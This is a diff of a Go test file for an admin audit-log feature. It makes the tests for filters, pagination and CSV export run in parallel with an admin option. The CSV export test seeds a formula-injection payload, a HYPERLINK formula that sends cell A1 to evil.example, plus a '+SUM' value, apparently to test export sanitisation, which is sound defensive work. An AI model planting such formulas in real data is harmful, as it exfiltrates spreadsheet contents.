@@ -64,7 +64,8 @@ func readCSV(t *testing.T, c *client, path string) (*http.Response, []byte, [][]
 }
 
 func TestAdminAudit_Filters(t *testing.T) {
-	s, acme, globex := twoPortals(t)
+	t.Parallel()
+	s, acme, globex := twoPortals(t, withAdmin)
 	day := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
 	writeAuditEvents(t, s, acme.ID,
 		logEvent{at: day, actor: "ann@acme.test", action: "signin", subject: "e1"},
@@ -133,7 +134,8 @@ func TestAdminAudit_Filters(t *testing.T) {
 }
 
 func TestAdminAudit_OlderPagesHaveNoGapsOrRepeats(t *testing.T) {
-	s, acme, _ := twoPortals(t)
+	t.Parallel()
+	s, acme, _ := twoPortals(t, withAdmin)
 	at := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
 	var events []logEvent
 	for i := range 130 {
@@ -172,7 +174,8 @@ func TestAdminAudit_OlderPagesHaveNoGapsOrRepeats(t *testing.T) {
 }
 
 func TestAdminAudit_CSVExport(t *testing.T) {
-	s, acme, globex := twoPortals(t)
+	t.Parallel()
+	s, acme, globex := twoPortals(t, withAdmin)
 	at := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
 	writeAuditEvents(t, s, acme.ID,
 		logEvent{at: at, actor: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, action: "user.update", subject: "+SUM(1,2)",
